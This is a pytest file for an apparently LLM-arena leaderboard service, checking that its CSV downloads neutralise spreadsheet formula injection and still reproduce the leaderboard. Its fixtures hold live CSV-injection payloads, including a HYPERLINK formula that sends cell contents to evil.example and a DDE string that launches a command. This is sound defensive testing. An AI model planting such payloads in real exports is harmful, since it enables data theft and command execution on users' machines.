"""Every CSV download, with owner text and conversations a spreadsheet would run as formulas."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path

import pytest

from tests.conftest import Arena
from tests.leaderboard.conftest import STRENGTHS, recompute, seed_votes, simulated_votes
from tests.leaderboard.test_reproduce import ROW_FIELDS, _compute, _options

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
# Owner text as stored by the operator's command or before owner input refused control
# characters: every dangerous first character, in the columns the leaderboard CSV carries.
HOSTILE_MODELS: dict[str, dict[str, str]] = {
    "alpha-large": {"organization": HYPERLINK, "license": "@SUM(1+1)*cmd|' /C calc'!A0"},
    "beta-chat": {"organization": "+1-2", "license": "-3+4", "description": "=1+1"},
    "gamma-7b": {"organization": "\tTabbed Org", "license": "\rCR licence"},
    "delta-mini": {"organization": "Delta AI", "license": "MIT", "description": "@mention"},
}
HOSTILE_TEXTS = (
    ("=1+1", "+cmd", "-2+3"),
    ("@SUM(A1)", "\tindented answer", "\rcarriage answer"),
)
LEADERBOARD_NUMBERS = ("rating", "ci_lower", "ci_upper", "win_rate", "rank", "votes")
BATTLE_NUMBERS = ("turn", "tstamp", "vote_id")


@pytest.fixture
def hostile_arena(arena_factory: Callable[..., Arena]) -> Arena:
    arena = arena_factory(
        release_conversations=True,
        recompute_every_votes=10**9,
        recompute_every_seconds=3600.0,
        bootstrap_rounds=20,
    )
    for name, facts in HOSTILE_MODELS.items():
        arena.add_model(name, "http://127.0.0.1:9/v1", **facts)
    votes = simulated_votes(STRENGTHS, 120)
    seed_votes(
        arena.settings.database_url,
        [
            replace(vote, prompt=prompt, answer_a=answer_a, answer_b=answer_b)
            for vote, (prompt, answer_a, answer_b) in zip(
                votes, HOSTILE_TEXTS * len(votes), strict=False
            )
        ],
    )
    outcome = recompute(arena)
    assert outcome.ran and outcome.stored > 0
    return arena


def _rows(text: str) -> list[list[str]]:
    # newline="" keeps a carriage return inside a quoted cell, as a spreadsheet would read it
    return list(csv.reader(io.StringIO(text, newline="")))


def _assert_no_formula(name: str, rows: list[list[str]]) -> None:
    for number, row in enumerate(rows):
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS), (name, number, cell)


def _assert_numbers(name: str, rows: list[list[str]], columns: tuple[str, ...]) -> None:
    header, *body = rows
    assert body, name
    for column in columns:
        index = header.index(column)
        for row in body:
            if row[index] != "":  # an interval bound the method does not give
                float(row[index])


def test_every_csv_download_neutralises_formulas(hostile_arena: Arena) -> None:
    with hostile_arena.client() as client:
        snapshot = client.get("/api/leaderboard").json()["snapshot"]
        downloads = {
            name: client.get(path, params=params)
            for name, path, params in [
                ("leaderboard", "/leaderboard.csv", {}),
                ("leaderboard-elo", "/leaderboard.csv", {"method": "elo"}),
                ("win-fraction", "/leaderboard/win-fraction.csv", {}),
                ("battle-count", "/leaderboard/battle-count.csv", {}),
                ("predicted-win", "/leaderboard/predicted-win.csv", {}),
                ("sampling-share", "/leaderboard/sampling-share.csv", {}),
                ("battles", "/battles.csv", {}),
                ("battles-snapshot", "/battles.csv", {"snapshot": snapshot["id"]}),
            ]
        }
        jsonl = client.get("/battles.jsonl")
    for name, response in downloads.items():
        assert response.status_code == 200, (name, response.text)
        _assert_no_formula(name, _rows(response.text))

    for name in ("leaderboard", "leaderboard-elo"):
        board = _rows(downloads[name].text)
        cells = {cell for row in board for cell in row}
        for facts in HOSTILE_MODELS.values():
            for field in ("organization", "license"):
                value = facts[field]
                expected = "'" + value if value.startswith(FORMULA_STARTS) else value
                assert expected in cells, (name, field, value)
        _assert_numbers(name, board, LEADERBOARD_NUMBERS)

    for name in ("battles", "battles-snapshot"):
        battles = _rows(downloads[name].text)
        assert battles[0][-3:] == ["prompt", "answer_a", "answer_b"]
        texts = {cell for row in battles[1:] for cell in row[-3:]}
        assert {"'=1+1", "'@SUM(A1)", "'+cmd (turn 1)", "'-2+3 (turn 1)"} <= texts
        assert {"'\tindented answer (turn 1)", "'\rcarriage answer (turn 1)"} <= texts
        _assert_numbers(name, battles, BATTLE_NUMBERS)
    # The JSON twin is no spreadsheet format: it keeps the text exactly.
    first = json.loads(jsonl.text.splitlines()[0])
    assert first["conversation_a"][0]["content"] == "=1+1"

    for name in ("win-fraction", "battle-count", "predicted-win", "sampling-share"):
        header, *rows = _rows(downloads[name].text)
        assert rows, name
        for row in rows:
            assert row[0] in HOSTILE_MODELS
            for cell in row[1:]:
                if cell:
                    float(cell)


@pytest.mark.parametrize("method", ["bt", "elo"])
def test_the_neutralised_battles_csv_reproduces_the_leaderboard(
    hostile_arena: Arena, tmp_path: Path, method: str
) -> None:
    with hostile_arena.client() as client:
        board = client.get("/api/leaderboard", params={"method": method}).json()
        snapshot = board["snapshot"]
        download = client.get("/battles.csv", params={"snapshot": snapshot["id"]})
    battles = tmp_path / "battles.csv"
    battles.write_bytes(download.content)

    computed = _compute(battles, *_options(snapshot))

    assert computed["vote_set_hash"] == board["vote_set_hash"]
    assert [{k: m[k] for k in ROW_FIELDS} for m in computed["models"]] == [
        {k: m[k] for k in ROW_FIELDS} for m in board["models"]
    ]
